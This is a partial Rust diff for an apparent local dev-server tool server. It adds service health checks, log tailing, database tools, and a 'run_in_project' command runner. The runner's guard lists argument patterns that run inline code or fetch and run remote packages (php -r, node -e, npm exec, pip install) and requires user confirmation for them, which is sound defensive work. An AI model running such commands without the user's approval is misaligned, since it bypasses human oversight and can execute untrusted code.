+            tool_rotate_log(name, keep)
+        }
+        // Scheduled tasks
+        "add_scheduled_task" => {
+            let name = args.get("name").and_then(|v| v.as_str()).unwrap_or("");
+            let command = args.get("command").and_then(|v| v.as_str()).unwrap_or("");
+            let interval = args.get("interval_secs").and_then(|v| v.as_u64()).unwrap_or(0);
+            let working_dir = args.get("working_dir").and_then(|v| v.as_str()).unwrap_or("");
+            tool_add_scheduled_task(name, command, interval, working_dir)
+        }
+        "list_scheduled_tasks" => tool_list_scheduled_tasks(),
+        "remove_scheduled_task" => {
+            let name = args.get("name").and_then(|v| v.as_str()).unwrap_or("");
+            tool_remove_scheduled_task(name)
+        }
+        // File manager
+        "reveal_path" => {
+            let path = args.get("path").and_then(|v| v.as_str()).unwrap_or("");
+            tool_reveal_path(path)
+        }
         // Service install/uninstall
         "install_service" => {
             let service = args.get("service").and_then(|v| v.as_str()).unwrap_or("");
             let version = args.get("version").and_then(|v| v.as_str());
-            tool_install_service(service, version)
+            let use_lock = args.get("use_lock").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_install_service(service, version, use_lock)
         }
         "uninstall_service" => {
             let service = args.get("service").and_then(|v| v.as_str()).unwrap_or("");
             tool_uninstall_service(service)
         }
+        "refresh_versions" => tool_refresh_versions(),
         // Diagnostics
         "diagnose_service" => {
             let svc_name = args.get("name").and_then(|v| v.as_str()).unwrap_or("");
@@ -2352,7 +5619,25 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let severity = args.get("severity").and_then(|v| v.as_str()).unwrap_or("error");
             tool_analyze_logs(service, lines, severity)
         }
+        "get_recent_errors" => {
+            let minutes = args.get("minutes").and_then(|v| v.as_u64()).unwrap_or(5);
+            tool_get_recent_errors(minutes)
+        }
+        "logs_summary" => tool_logs_summary(),
+        "check_permissions" => {
+            let fix = args.get("fix").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_check_permissions(fix)
+        }
         "get_health_report" => tool_get_health_report(),
+        "whats_on_port" => {
+            let port = args.get("port").and_then(|v| v.as_u64()).unwrap_or(0);
+            tool_whats_on_port(port)
+        }
+        "free_port" => {
+            let port = args.get("port").and_then(|v| v.as_u64()).unwrap_or(0);
+            let confirm = args.get("confirm").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_free_port(port, confirm)
+        }
         // Blueprints
         "list_blueprints" => tool_list_blueprints(),
         "get_blueprint" => {
@@ -2364,7 +5649,9 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
             let path = args.get("path").and_then(|v| v.as_str()).unwrap_or("");
             let php_version = args.get("php_version").and_then(|v| v.as_str());
-            tool_create_from_blueprint(blueprint, domain, path, php_version)
+            let ssl = args.get("ssl").and_then(|v| v.as_bool()).unwrap_or(false);
+            let rollback = args.get("rollback").and_then(|v| v.as_bool()).unwrap_or(false);
+            tool_create_from_blueprint(blueprint, domain, path, php_version, ssl, rollback)
         }
         // Site app process management
         "start_site_app" => {
@@ -2375,8 +5662,24 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
             tool_stop_site_app(domain)
         }
+        "site_app_log" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            let lines = args.get("lines").and_then(|v| v.as_u64()).unwrap_or(100) as usize;
+            tool_site_app_log(domain, lines)
+        }
+        // Tunnels
+        "tunnel_start" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            tool_tunnel_start(domain)
+        }
+        "tunnel_stop" => {
+            let domain = args.get("domain").and_then(|v| v.as_str()).unwrap_or("");
+            tool_tunnel_stop(domain)
+        }
         // MongoDB
         "mongo_list_databases" => tool_mongo_list_databases(),
+        "mongo_server_status" => tool_mongo_server_status(),
+        "mongo_connection_info" => tool_mongo_connection_info(),
         "mongo_list_collections" => {
             let db = args.get("database").and_then(|v| v.as_str()).unwrap_or("");
             tool_mongo_list_collections(db)
@@ -2386,6 +5689,33 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
             let cmd = args.get("command").and_then(|v| v.as_str()).unwrap_or("");
             tool_mongo_execute(db, cmd)
         }
+        "mongo_export" => {
+            let db = args.get("database").and_then(|v| v.as_str()).unwrap_or("");
+            let collection = args.get("collection").and_then(|v| v.as_str());
+            let output = args.get("output").and_then(|v| v.as_str());
+            tool_mongo_export(db, collection, output)
+        }
+        "mongo_import" => {
+            let db = args.get("database").and_then(|v| v.as_str()).unwrap_or("");
+            let file = args.get("file").and_then(|v| v.as_str()).unwrap_or("");
+            let collection = args.get("collection").and_then(|v| v.as_str());
+            tool_mongo_import(db, file, collection)
+        }
+        // SQLite
+        "sqlite_list_tables" => {
+            let db_file = args.get("db_file").and_then(|v| v.as_str()).unwrap_or("");
+            tool_sqlite_list_tables(db_file)
+        }
+        "sqlite_schema" => {
+            let db_file = args.get("db_file").and_then(|v| v.as_str()).unwrap_or("");
+            let table = args.get("table").and_then(|v| v.as_str()).unwrap_or("");
+            tool_sqlite_schema(db_file, table)
+        }
+        "sqlite_execute" => {
+            let db_file = args.get("db_file").and_then(|v| v.as_str()).unwrap_or("");
+            let query = args.get("query").and_then(|v| v.as_str()).unwrap_or("");
+            tool_sqlite_execute(db_file, query)
+        }
         // Deploy — Global Connections
         "deploy_list_connections" => {
             tool_deploy_list_connections()
@@ -2463,7 +5793,7 @@ fn handle_tool_call(id: &Value, name: &str, args: &Value) -> Value {
 
 fn tool_list_services() -> Result<String, String> {
     let bin_dir = get_bin_dir();
-    let services = scan_services(&bin_dir);
+    let services = scan_server_services(&bin_dir);
 
     if services.is_empty() {
         return Ok("No services installed. Use the Orbit GUI or 'orbit-cli install <service>' to install services.".to_string());
@@ -2485,7 +5815,150 @@ fn tool_list_services() -> Result<String, String> {
         }));
     }
 
-    Ok(serde_json::to_string_pretty(&result).unwrap())
+    Ok(serde_json::to_string_pretty(&result).unwrap())
+}
+
+/// Composite service state for get_service_status: "running_healthy",
+/// "running_unresponsive", "port_held_by_other", "crashed" or "stopped".
+#[derive(Serialize)]
+struct ServiceHealth {
+    state: &'static str,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pid: Option<u32>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    detail: Option<String>,
+}
+
+impl ServiceHealth {
+    fn new(state: &'static str, pid: Option<u32>, detail: impl Into<String>) -> Self {
+        ServiceHealth { state, pid, detail: Some(detail.into()) }
+    }
+}
+
+/// Send a plain HTTP request; any HTTP response means the server is answering.
+fn http_ping(port: u16, path: &str) -> Result<String, String> {
+    let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
+    let mut stream = std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(2))
+        .map_err(|e| format!("Connection failed: {}", e))?;
+    stream.set_read_timeout(Some(std::time::Duration::from_secs(3))).ok();
+    let request = format!("GET {} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n", path);
+    stream.write_all(request.as_bytes())
+        .map_err(|e| format!("Failed to send request: {}", e))?;
+
+    let mut buf = [0u8; 64];
+    let n = stream.read(&mut buf).map_err(|e| format!("No HTTP response: {}", e))?;
+    let status_line = String::from_utf8_lossy(&buf[..n]).lines().next().unwrap_or("").to_string();
+    if status_line.starts_with("HTTP/") {
+        Ok(status_line)
+    } else {
+        Err("No HTTP response".to_string())
+    }
+}
+
+fn redis_ping(port: u16) -> Result<String, String> {
+    let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
+    let mut stream = std::net::TcpStream::connect_timeout(&addr, std::time::Duration::from_secs(2))
+        .map_err(|e| format!("Connection failed: {}", e))?;
+    stream.set_read_timeout(Some(std::time::Duration::from_secs(3))).ok();
+    stream.write_all(b"PING\r\n")
+        .map_err(|e| format!("Failed to send PING: {}", e))?;
+
+    let mut buf = [0u8; 64];
+    let n = stream.read(&mut buf).map_err(|e| format!("No reply to PING: {}", e))?;
+    let reply = String::from_utf8_lossy(&buf[..n]).trim().to_string();
+    // -NOAUTH still proves the server is answering
+    if reply.starts_with("+PONG") || reply.starts_with("-NOAUTH") {
+        Ok(reply)
+    } else {
+        Err(format!("Unexpected reply to PING: {}", reply))
+    }
+}
+
+/// Run `SELECT 1` with a short deadline. A rejected login still means the
+/// server is answering.
+fn db_ping(mut cmd: Command) -> Result<String, String> {
+    let output = run_with_timeout(&mut cmd, std::time::Duration::from_secs(5))
+        .map(CommandResult::from)?;
+    if output.success() {
+        return Ok("SELECT 1 succeeded".to_string());
+    }
+    let detail = output.error_detail();
+    let lower = detail.to_lowercase();
+    if lower.contains("access denied") || lower.contains("authentication failed") {
+        Ok(format!("Responding, but login was rejected: {}", detail))
+    } else {
+        Err(detail)
+    }
+}
+
+/// Protocol-level check that the service is answering, not just bound.
+fn ping_service(service: &ServiceInfo, port: u16) -> Result<String, String> {
+    let bin_dir = get_bin_dir();
+    match service.service_type.as_str() {
+        "nginx" | "apache" | "mailpit" => http_ping(port, "/"),
+        "meilisearch" => http_ping(port, "/health"),
+        "redis" => redis_ping(port),
+        "mariadb" => {
+            let mut cmd = hidden_command(find_mariadb_client(&bin_dir)?);
+            cmd.arg("--host=127.0.0.1").arg(format!("--port={}", port))
+                .args(db_credentials().mariadb_auth_args())
+                .arg("-e").arg("SELECT 1");
+            db_ping(cmd)
+        }
+        "postgresql" => {
+            let creds = db_credentials();
+            let mut cmd = hidden_command(find_psql_client(&bin_dir)?);
+            cmd.arg("-U").arg(&creds.pg_user)
+                .arg("-h").arg("127.0.0.1")
+                .arg("-p").arg(port.to_string())
+                .arg("-c").arg("SELECT 1")
+                .env("PGPASSWORD", &creds.pg_password);
+            db_ping(cmd)
+        }
+        // PHP-CGI (FastCGI) and MongoDB: accepting connections is the check
+        _ => Ok("Accepting connections".to_string()),
+    }
+}
+
+/// Health of `service`, judged on the port it really binds (Apache's comes
+/// from the httpd.conf under `bin_dir`)
+fn service_health(service: &ServiceInfo, bin_dir: &std::path::Path) -> ServiceHealth {
+    let tracked = tracked_service_pid(&service.name);
+    let port = service_port_in(&service.name, bin_dir);
+
+    if let Some(port) = port.filter(|p| is_port_in_use(*p)) {
+        let owner = port_owner(port);
+        if let Some((pid, image)) = &owner {
+            if !is_service_image(&service.name, image) {
+                return ServiceHealth::new(
+                    "port_held_by_other",
+                    Some(*pid),
+                    format!("Port {} is held by {} (PID {})", port, image, pid),
+                );
+            }
+        }
+        let pid = owner.map(|(pid, _)| pid).or(tracked);
+        return match ping_service(service, port) {
+            Ok(detail) => ServiceHealth::new("running_healthy", pid, detail),
+            Err(e) => ServiceHealth::new("running_unresponsive", pid, format!("Listening on {} but not answering: {}", port, e)),
+        };
+    }
+
+    if let Some(pid) = tracked {
+        let detail = match port {
+            Some(port) => format!("Process is alive but not listening on port {}", port),
+            None => "Process is alive".to_string(),
+        };
+        return ServiceHealth::new("running_unresponsive", Some(pid), detail);
+    }
+
+    // Orbit started it and nobody stopped it, yet the process is gone
+    if let Some(entry) = session_entry(&service.name) {
+        let pid = entry["pid"].as_u64().map(|p| p as u32);
+        return ServiceHealth::new("crashed", pid, "Started by Orbit but the process has exited. Check its logs with analyze_logs.");
+    }
+
+    ServiceHealth { state: "stopped", pid: None, detail: None }
 }
 
 fn tool_get_service_status(name: &str) -> Result<String, String> {
@@ -2495,7 +5968,7 @@ fn tool_get_service_status(name: &str) -> Result<String, String> {
 
     let resolved = resolve_service_name(name);
     let bin_dir = get_bin_dir();
-    let services = scan_services(&bin_dir);
+    let services = scan_services_cached(&bin_dir);
 
     let service = services.iter().find(|s| {
         s.name == resolved || s.name.starts_with(&resolved)
@@ -2503,12 +5976,15 @@ fn tool_get_service_status(name: &str) -> Result<String, String> {
 
     match service {
         Some(svc) => {
-            let running = is_service_running(&svc.name);
-            let port = get_service_port(&svc.name);
+            let port = service_port_in(&svc.name, &bin_dir);
+            let health = service_health(svc, &bin_dir);
             let result = json!({
                 "name": svc.name,
                 "version": svc.version,
-                "status": if running { "running" } else { "stopped" },
+                "status": health.state,
+                "running": health.state.starts_with("running"),
+                "pid": health.pid,
+                "detail": health.detail,
                 "port": port,
                 "path": svc.path,
                 "type": svc.service_type
@@ -2526,7 +6002,7 @@ fn tool_start_service(name: &str) -> Result<String, String> {
 
     let resolved = resolve_service_name(name);
     let bin_dir = get_bin_dir();
-    let services = scan_services(&bin_dir);
+    let services = scan_services_cached(&bin_dir);
 
     let service = services.iter().find(|s| {
         s.name == resolved || s.name.starts_with(&resolved)
@@ -2537,8 +6013,10 @@ fn tool_start_service(name: &str) -> Result<String, String> {
             if is_service_running(&svc.name) {
                 return Ok(format!("{} is already running", svc.name));
             }
+            check_start_preconditions(svc)?;
             match start_service_process(svc) {
                 Ok(pid) => {
+                    clear_pending_restart(&svc.name);
                     // Give process a moment to bind
                     std::thread::sleep(std::time::Duration::from_millis(500));
                     let port = get_service_port(&svc.name);
@@ -2562,7 +6040,7 @@ fn tool_stop_service(name: &str) -> Result<String, String> {
     if !is_service_running(&resolved) {
         // Try matching with scan
         let bin_dir = get_bin_dir();
-        let services = scan_services(&bin_dir);
+        let services = scan_services_cached(&bin_dir);
         let svc_name = services.iter()
             .find(|s| s.name == resolved || s.name.starts_with(&resolved))
             .map(|s| s.name.clone())
@@ -2573,8 +6051,12 @@ fn tool_stop_service(name: &str) -> Result<String, String> {
         }
     }
 
-    stop_service_process(&resolved)?;
-    Ok(format!("{} stopped", resolved))
+    let outcome = stop_service_process(&resolved)?;
+    clear_pending_restart(&resolved);
+    if !outcome.was_running {
+        return Ok(format!("{} is not running", resolved));
+    }
+    Ok(format!("{} stopped (method: {})", resolved, outcome.method))
 }
 
 fn tool_restart_service(name: &str) -> Result<String, String> {
@@ -2584,7 +6066,7 @@ fn tool_restart_service(name: &str) -> Result<String, String> {
 
     let resolved = resolve_service_name(name);
     let bin_dir = get_bin_dir();
-    let services = scan_services(&bin_dir);
+    let services = scan_services_cached(&bin_dir);
 
     let service = services.iter().find(|s| {
         s.name == resolved || s.name.starts_with(&resolved)
@@ -2600,6 +6082,7 @@ fn tool_restart_service(name: &str) -> Result<String, String> {
 
             match start_service_process(svc) {
                 Ok(pid) => {
+                    clear_pending_restart(&svc.name);
                     std::thread::sleep(std::time::Duration::from_millis(500));
                     let port = get_service_port(&svc.name);
                     let port_str = port.map(|p| format!(" on :{}", p)).unwrap_or_default();
@@ -2628,6 +6111,8 @@ fn tool_list_sites() -> Result<String, String> {
             "php_version": site.php_version,
             "ssl_enabled": site.ssl_enabled,
             "web_server": site.web_server,
+            "laravel": laravel_project_root(&site.path).is_some(),
+            "app_running": site_app_pid(&site.domain).is_some(),
             "created_at": site.created_at
         }));
     }
@@ -2688,30 +6173,98 @@ fn tool_read_log(name: &str, lines: usize) -> Result<String, String> {
     }
 }
 
+/// Largest chunk returned by one tail_log call; clients keep polling with the new offset.
+const TAIL_LOG_MAX_BYTES: u64 = 256 * 1024;
+
+/// Read what was appended to `path` after `from_byte`. Returns the bytes, the
+/// next offset, and whether the file shrank (in which case reading restarts at 0).
+fn read_appended(path: &std::path::Path, from_byte: u64) -> Result<(Vec<u8>, u64, bool), String> {
+    use std::io::{Seek, SeekFrom};
+
+    let mut file = fs::File::open(path)
+        .map_err(|e| format!("Failed to open log: {}", e))?;
+    let len = file.metadata()
+        .map_err(|e| format!("Failed to read log metadata: {}", e))?
+        .len();
+
+    // File shrank (rotated or cleared): start over from the beginning
+    let truncated = from_byte > len;
+    let start = if truncated { 0 } else { from_byte };
+
+    let mut buf = Vec::new();
+    file.seek(SeekFrom::Start(start))
+        .map_err(|e| format!("Failed to seek log: {}", e))?;
+    file.take(TAIL_LOG_MAX_BYTES.min(len - start))
+        .read_to_end(&mut buf)
+        .map_err(|e| format!("Failed to read log: {}", e))?;
+
+    // When capped, stop at the last complete line so the next poll starts cleanly
+    if start + (buf.len() as u64) < len {
+        if let Some(last_newline) = buf.iter().rposition(|&b| b == b'\n') {
+            buf.truncate(last_newline + 1);
+        }
+    }
+
+    let offset = start + buf.len() as u64;
+    Ok((buf, offset, truncated))
+}
+
+fn tool_tail_log(name: &str, from_byte: Option<u64>) -> Result<String, String> {
+    if name.is_empty() {
+        return Err("Log name is required. Use list_logs to see available logs.".to_string());
+    }
+
+    let bin_dir = get_bin_dir();
+    let logs = scan_log_files(&bin_dir);
+    let log_file = logs.iter().find(|l| l.name == name).ok_or_else(|| {
+        let available: Vec<String> = logs.iter().map(|l| l.name.clone()).collect();
+        format!("Log '{}' not found. Available logs: {}", name, available.join(", "))
+    })?;
+
+    // No offset yet: report the current end so the client only sees new lines
+    let Some(from_byte) = from_byte else {
+        let len = fs::metadata(&log_file.path)
+            .map_err(|e| format!("Failed to read log metadata: {}", e))?
+            .len();
+        return Ok(serde_json::to_string_pretty(&json!({
+            "content": "",
+            "offset": len,
+            "truncated": false
+        })).unwrap());
+    };
+
+    let (content, offset, truncated) = read_appended(&log_file.path, from_byte)?;
+    Ok(serde_json::to_string_pretty(&json!({
+        "content": String::from_utf8_lossy(&content),
+        "offset": offset,
+        "truncated": truncated
+    })).unwrap())
+}
+
 fn tool_list_databases() -> Result<String, String> {
     require_service("mariadb")?;
     let bin_dir = get_bin_dir();
     let client = find_mariadb_client(&bin_dir)?;
 
-    let output = hidden_command(&client)
-        .arg("--host=127.0.0.1")
-        .arg("--port=3306")
-        .arg("-u").arg("root").arg("-proot")
-        .arg("-e").arg("SHOW DATABASES")
-        .arg("--batch").arg("--skip-column-names")
-        .output()
+    let output = run_command(
+        hidden_command(&client)
+            .arg("--host=127.0.0.1")
+            .arg("--port=3306")
+            .args(db_credentials().mariadb_auth_args())
+            .arg("-e").arg("SHOW DATABASES")
+            .arg("--batch").arg("--skip-column-names"),
+        "db",
+    )
         .map_err(|e| format!("Failed to run MariaDB client: {}. Is MariaDB running?", e))?;
 
-    if !output.status.success() {
-        let stderr = String::from_utf8_lossy(&output.stderr);
-        return Err(format!("MariaDB error: {}. Is MariaDB running?", stderr.trim()));
+    if !output.success() {
+        return Err(format!("MariaDB error: {}. Is MariaDB running?", output.error_detail()));
     }
 
-    let stdout = String::from_utf8_lossy(&output.stdout);
     let system_dbs = ["information_schema", "performance_schema", "mysql", "sys"];
 
     let mut result = Vec::new();
-    for db in stdout.lines() {
+    for db in output.stdout.lines() {
         let db = db.trim();
         if db.is_empty() { continue; }
         let is_system = system_dbs.contains(&db);
@@ -2738,19 +6291,20 @@ fn tool_create_database(name: &str) -> Result<String, String> {
     let bin_dir = get_bin_dir();
     let client = find_mariadb_client(&bin_dir)?;
 
-    let sql = format!("CREATE DATABASE `{}` CHARACTER SET utf8mb4 COLLATE utf8mb4_unicode_ci", name);
-    let output = hidden_command(&client)
-        .arg("--host=127.0.0.1").arg("--port=3306")
-        .arg("-u").arg("root").arg("-proot")
-        .arg("-e").arg(&sql)
-        .output()
+    let sql = format!("CREATE DATABASE {} CHARACTER SET utf8mb4 COLLATE utf8mb4_unicode_ci", escape_identifier(name));
+    let output = run_command(
+        hidden_command(&client)
+            .arg("--host=127.0.0.1").arg("--port=3306")
+            .args(db_credentials().mariadb_auth_args())
+            .arg("-e").arg(&sql),
+        "db",
+    )
         .map_err(|e| format!("Failed to run MariaDB client: {}", e))?;
 
-    if output.status.success() {
+    if output.success() {
         Ok(format!("Database '{}' created successfully (utf8mb4, utf8mb4_unicode_ci)", name))
     } else {
-        let stderr = String::from_utf8_lossy(&output.stderr);
-        Err(format!("Failed to create database: {}", stderr.trim()))
+        Err(format!("Failed to create database: {}", output.error_detail()))
     }
 }
 
@@ -2758,7 +6312,7 @@ fn tool_get_system_info() -> Result<String, String> {
     let data_dir = get_orbit_data_dir();
     let bin_dir = get_bin_dir();
     let config_dir = get_config_dir();
-    let services = scan_services(&bin_dir);
+    let services = scan_services_cached(&bin_dir);
     let sites = read_sites_store().map(|s| s.sites.len()).unwrap_or(0);
     let logs = scan_log_files(&bin_dir);
 
@@ -2767,6 +6321,10 @@ fn tool_get_system_info() -> Result<String, String> {
     let result = json!({
         "orbit_version": env!("CARGO_PKG_VERSION"),
         "data_directory": data_dir.to_string_lossy(),
+        "data_directory_source": data_dir_override()
+            .filter(|(dir, _)| *dir == data_dir)
+            .map(|(_, source)| source)
+            .unwrap_or("default"),
         "bin_directory": bin_dir.to_string_lossy(),
         "config_directory": config_dir.to_string_lossy(),
         "services_installed": services.len(),
@@ -2801,17 +6359,10 @@ fn tool_run_orbit_command(command: &str, args: &[String]) -> Result<String, Stri
             cmd.arg(arg);
         }
 
-        let output = cmd.output()
+        let output = run_command(&mut cmd, "default")
             .map_err(|e| format!("orbit-cli not found: {}. Is it installed?", e))?;
 
-        let stdout = String::from_utf8_lossy(&output.stdout);
-        let stderr = String::from_utf8_lossy(&output.stderr);
-
-        return if output.status.success() {
-            Ok(stdout.to_string())
-        } else {
-            Err(format!("{}{}", stdout, stderr))
-        };
+        return command_result_response(output);
     }
 
     let mut cmd = hidden_command(&cli_path);
@@ -2820,17 +6371,189 @@ fn tool_run_orbit_command(command: &str, args: &[String]) -> Result<String, Stri
         cmd.arg(arg);
     }
 
-    let output = cmd.output()
+    let output = run_command(&mut cmd, "default")
         .map_err(|e| format!("Failed to run orbit-cli: {}", e))?;
 
-    let stdout = String::from_utf8_lossy(&output.stdout);
-    let stderr = String::from_utf8_lossy(&output.stderr);
+    command_result_response(output)
+}
+
+/// Tools run_in_project starts without confirmation
+const PROJECT_COMMAND_ALLOWLIST: &[&str] = &[
+    "php", "composer", "node", "npm", "yarn", "pnpm", "bun",
+    "deno", "go", "python", "python3", "pip", "pip3", "git",
+];
+/// Arguments that make an allowlisted tool run code given on the command
+/// line, fetch and run a package, or reconfigure git into running one.
+/// Options ("-r", "--eval") match anywhere, subcommands only first.
+const PROJECT_COMMAND_CONFIRM_ARGS: &[(&str, &[&str])] = &[
+    ("php", &["-r", "-B", "-R", "-E", "-a"]),
+    ("node", &["-e", "--eval", "-p", "--print"]),
+    ("bun", &["-e", "--eval", "-p", "--print", "x"]),
+    ("deno", &["eval"]),
+    ("python", &["-c"]),
+    ("python3", &["-c"]),
+    ("git", &["-c", "--config-env", "config"]),
+    ("npm", &["exec", "x"]),
+    ("pnpm", &["dlx"]),
+    ("yarn", &["dlx"]),
+];
+const PROJECT_COMMAND_DEFAULT_TIMEOUT_SECS: u64 = 60;
+const PROJECT_COMMAND_MAX_TIMEOUT_SECS: u64 = 600;
+/// Kept from the end of each of stdout and stderr
+const PROJECT_COMMAND_MAX_OUTPUT: usize = 64 * 1024;
+
+/// Orbit's tool directories, most specific first. A copy of the one in
+/// services/terminal.rs (the app's terminal); keep the two identical.
+fn orbit_path_dirs(bin_dir: &std::path::Path) -> Vec<std::path::PathBuf> {
+    // We want the most specific binaries in front.
+    let mut paths_to_inject = vec![
+        bin_dir.join("mariadb").join("bin"),
+        bin_dir.join("mariadb"),
+        bin_dir.join("nginx"),
+        bin_dir.join("nodejs"),
+        bin_dir.join("bun"),
+        bin_dir.join("go").join("bin"),
+        bin_dir.join("deno"),
+        bin_dir.join("python"),
+        bin_dir.join("apache").join("bin"),
+        bin_dir.join("composer"),
+        bin_dir.join("phpmyadmin"),
+        bin_dir.join("tools"), // Catch-all
+    ];
 
-    if output.status.success() {
-        Ok(stdout.to_string())
-    } else {
-        Err(format!("{}{}", stdout, stderr))
+    // Push all installed PHP versions into the path list dynamically
+    if let Ok(entries) = std::fs::read_dir(bin_dir.join("php")) {
+        for entry in entries.flatten() {
+            let path = entry.path();
+            if path.is_dir() {
+                paths_to_inject.push(path);
+            }
+        }
+    }
+
+    paths_to_inject.into_iter().filter(|p| p.exists()).collect()
+}
+
+/// Refuse a command that needs the user's confirmation: one with shell
+/// operators, or whose program isn't a bare name on the allowlist.
+fn check_project_command(command: &str, confirm: bool) -> Result<(), String> {
+    if confirm {
+        return Ok(());
+    }
+    if let Some(op) = command.chars().find(|c| matches!(c, ';' | '&' | '|' | '<' | '>' | '`' | '$' | '\n' | '\r')) {
+        return Err(format!("Command contains the shell operator '{}'. Ask the user to approve this exact command, then call again with confirm: true", op.escape_default()));
+    }
+    let mut words = command.split_whitespace();
+    let program = words.next().unwrap_or("");
+    if !PROJECT_COMMAND_ALLOWLIST.contains(&program) {
+        return Err(format!("'{}' is not on the allowlist ({}). Ask the user to approve this exact command, then call again with confirm: true",
+            program, PROJECT_COMMAND_ALLOWLIST.join(", ")));
+    }
+    let args: Vec<&str> = words.collect();
+    let risky = PROJECT_COMMAND_CONFIRM_ARGS.iter()
+        .filter(|(tool, _)| *tool == program)
+        .flat_map(|(_, risky)| risky.iter())
+        .find(|risky| args.iter().enumerate().any(|(i, arg)| runs_inline_code(risky, i, arg)));
+    if let Some(risky) = risky {
+        return Err(format!("'{} {}' runs code that isn't in the project. Ask the user to approve this exact command, then call again with confirm: true",
+            program, risky));
+    }
+    if let Some(install) = fetches_remote_code(program, &args) {
+        return Err(format!("'{} {}' fetches code that isn't in the project and runs it (packages' install scripts included). Ask the user to approve this exact command, then call again with confirm: true",
+            program, install));
+    }
+    Ok(())
+}
+
+/// The subcommand through which `program args` downloads code and runs or
+/// installs it: a package install naming packages, deno run/install of a
+/// remote module, or go run/install of a module@version
+fn fetches_remote_code<'a>(program: &str, args: &[&'a str]) -> Option<&'a str> {
+    let (&sub, rest) = args.split_first()?;
+    let mut operands = rest.iter().filter(|arg| !arg.starts_with('-'));
+    let fetches = match (program, sub) {
+        ("pip" | "pip3", "install") => !rest.is_empty(),
+        ("python" | "python3", "-m") => return rest.first()
+            .filter(|m| matches!(**m, "pip" | "pip3"))
+            .and_then(|_| fetches_remote_code("pip", &rest[1..]).map(|_| "-m pip install")),
+        ("npm" | "bun", "install" | "i" | "add") | ("pnpm" | "yarn", "add") => operands.next().is_some(),
+        ("deno", "run" | "install") => operands.any(|arg| arg.contains("://") || arg.starts_with("npm:") || arg.starts_with("jsr:")),
+        ("go", "run" | "install") => operands.any(|arg| arg.contains('@')),
+        _ => false,
+    };
+    fetches.then_some(sub)
+}
+
+/// Whether the `index`-th argument `arg` is the risky option or subcommand
+/// `risky`, including glued ("-rphpinfo()", "--eval=...") and combined
+/// short forms ("-Bc")
+fn runs_inline_code(risky: &str, index: usize, arg: &str) -> bool {
+    if let Some(long) = risky.strip_prefix("--") {
+        return arg.strip_prefix("--").is_some_and(|a| a == long || a.starts_with(&format!("{}=", long)));
+    }
+    if let Some(short) = risky.strip_prefix('-') {
+        return arg.starts_with('-') && !arg.starts_with("--") && arg[1..].contains(short);
     }
+    index == 0 && arg == risky
+}
+
+/// The last `max` bytes of `text` (on a char boundary), and whether any were cut
+fn cap_output(text: String, max: usize) -> (String, bool) {
+    if text.len() <= max {
+        return (text, false);
+    }
+    let mut start = text.len() - max;
+    while !text.is_char_boundary(start) {
+        start += 1;
+    }
+    (text[start..].to_string(), true)
+}
+
+fn tool_run_in_project(project_path: &str, command: &str, timeout_secs: Option<u64>, confirm: bool) -> Result<String, String> {
+    if project_path.is_empty() || command.trim().is_empty() {
+        return Err("Project path and command are required".to_string());
+    }
+    let project = PathBuf::from(project_path);
+    if !project.is_dir() {
+        return Err(format!("Project directory not found: {}", project_path));
+    }
+    check_project_command(command, confirm)?;
+    let timeout_secs = timeout_secs.unwrap_or(PROJECT_COMMAND_DEFAULT_TIMEOUT_SECS).clamp(1, PROJECT_COMMAND_MAX_TIMEOUT_SECS);
+
+    // Through the shell so npm.cmd-style shims resolve; without confirm the
+    // command has no operators for it to interpret
+    let mut cmd = if cfg!(target_os = "windows") {
+        let mut cmd = hidden_command("cmd");
+        cmd.arg("/C").arg(command);
+        cmd
+    } else {
+        let mut cmd = Command::new("sh");
+        cmd.arg("-c").arg(command);
+        cmd
+    };
+    let inherited = std::env::var_os("PATH").unwrap_or_default();
+    let dirs = orbit_path_dirs(&get_bin_dir()).into_iter().chain(std::env::split_paths(&inherited));
+    if let Ok(path) = std::env::join_paths(dirs) {
+        cmd.env("PATH", path);
+    }
+    cmd.current_dir(&project);
+
+    eprintln!("[orbit-mcp] run_in_project in {}: {}", project.display(), command);
+    let result = CommandResult::from(run_with_timeout(&mut cmd, std::time::Duration::from_secs(timeout_secs))
+        .map_err(|e| format!("Command failed: {}", e))?);
+    let success = result.success();
+    let (stdout, stdout_cut) = cap_output(result.stdout, PROJECT_COMMAND_MAX_OUTPUT);
+    let (stderr, stderr_cut) = cap_output(result.stderr, PROJECT_COMMAND_MAX_OUTPUT);
+    let body = serde_json::to_string_pretty(&json!({
+        "command": command,
+        "cwd": project.display().to_string(),
+        "success": success,
+        "exit_code": result.code,
+        "stdout": stdout,
+        "stderr": stderr,
+        "truncated": stdout_cut || stderr_cut
+    })).unwrap();
+    if success { Ok(body) } else { Err(body) }
 }
 
 // ─── MariaDB Extended Tools ──────────────────────────────────────
@@ -2839,20 +6562,26 @@ fn run_mariadb_query(sql: &str) -> Result<String, String> {
     let bin_dir = get_bin_dir();
     let client = find_mariadb_client(&bin_dir)?;
 
-    let output = hidden_command(&client)
-        .arg("--host=127.0.0.1").arg("--port=3306")
-        .arg("-u").arg("root").arg("-proot")
-        .arg("--batch")
-        .arg("-e").arg(sql)
-        .output()
+    let output = run_command(
+        hidden_command(&client)
+            .arg("--host=127.0.0.1").arg("--port=3306")
+            .args(db_credentials().mariadb_auth_args())
+            .arg("--batch")
+            .arg("-e").arg(sql),
+        "db",
+    )
         .map_err(|e| format!("Failed to run MariaDB client: {}. Is MariaDB running?", e))?;
 
-    if !output.status.success() {
-        let stderr = String::from_utf8_lossy(&output.stderr);
-        return Err(format!("MariaDB error: {}", stderr.trim()));
+    if !output.success() {
+        return Err(format!("MariaDB error: {}", output.error_detail()));
     }
 
